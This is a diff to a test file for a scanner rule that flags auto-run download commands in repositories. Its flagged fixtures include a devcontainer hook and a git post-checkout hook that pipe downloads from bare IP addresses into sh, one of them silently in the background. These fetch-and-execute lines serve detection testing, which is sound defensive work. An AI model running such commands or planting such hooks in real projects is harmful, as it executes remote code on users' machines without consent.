@@ -12,6 +12,7 @@ ruleTest(rule, {
     { name: 'shell script with curl to a file, no exec', files: { 'package.json': '{"scripts":{"postinstall":"bash scripts/fetch.sh"}}', 'scripts/fetch.sh': 'curl -o out.json https://example.com/x.json\n' } },
     { name: 'checksum of a download', files: { '.vscode/tasks.json': tasks('curl -sL https://x.example/a.tgz | sha256sum; curl -s https://x.example/v | node-semver') } },
     { name: 'piping a download into grep', files: { '.vscode/tasks.json': tasks('curl -s https://api.github.com/repos/a/b | grep tag_name') } },
+    { name: 'prepare points core.hooksPath at .githooks holding a lint hook', files: { 'package.json': '{"scripts":{"prepare":"git config core.hooksPath .githooks"}}', '.githooks/pre-commit': '#!/bin/sh\nnpx lint-staged\n' } },
   ],
   flagged: [
     {
@@ -60,10 +61,10 @@ ruleTest(rule, {
     },
     {
       name: 'devcontainer installs a tool from a named host (medium), and from a bare public IP (high/high)',
-      files: { '.devcontainer/devcontainer.json': '{\n "postCreateCommand": "curl -fsSL https://bun.sh/install | bash",\n "postStartCommand": "curl -s http://203.0.113.7:1244/client/9 | sh"\n}' },
+      files: { '.devcontainer/devcontainer.json': '{\n "postCreateCommand": "curl -fsSL https://bun.sh/install | bash",\n "postStartCommand": "curl -s http://95.164.17.24:1244/client/9 | sh"\n}' },
       findings: [
         { line: 2, severity: 'medium', confidence: 'medium' },
-        { line: 3, severity: 'high', confidence: 'high', evidence: 'curl -s http://203.0.113.7:1244/client/9 | sh' },
+        { line: 3, severity: 'high', confidence: 'high', evidence: 'curl -s http://95.164.17.24:1244/client/9 | sh' },
       ],
     },
     {
@@ -80,6 +81,11 @@ ruleTest(rule, {
       name: 'a Makefile target nothing runs on install stays medium/low',
       files: { 'Makefile': 'tools:\n\tcurl -fsSL https://sh.rustup.rs | sh\n', 'package.json': '{"scripts":{"build":"make tools"}}' },
       findings: [{ line: 2, file: 'Makefile', severity: 'medium', confidence: 'low' }],
+    },
+    {
+      name: 'prepare points core.hooksPath at a folder whose post-checkout pipes a download into sh',
+      files: { 'package.json': '{"scripts":{"prepare":"git config core.hooksPath .githooks"}}', '.githooks/post-checkout': '#!/bin/sh\nwget -qO- http://198.51.100.12:1245/hook | sh >/dev/null 2>&1 &\n' },
+      findings: [{ line: 2, file: '.githooks/post-checkout', severity: 'critical', confidence: 'high', evidence: /^wget -qO- http:\/\/198\.51\.100\.12:1245\/hook \| sh/ }],
     },
   ],
 });
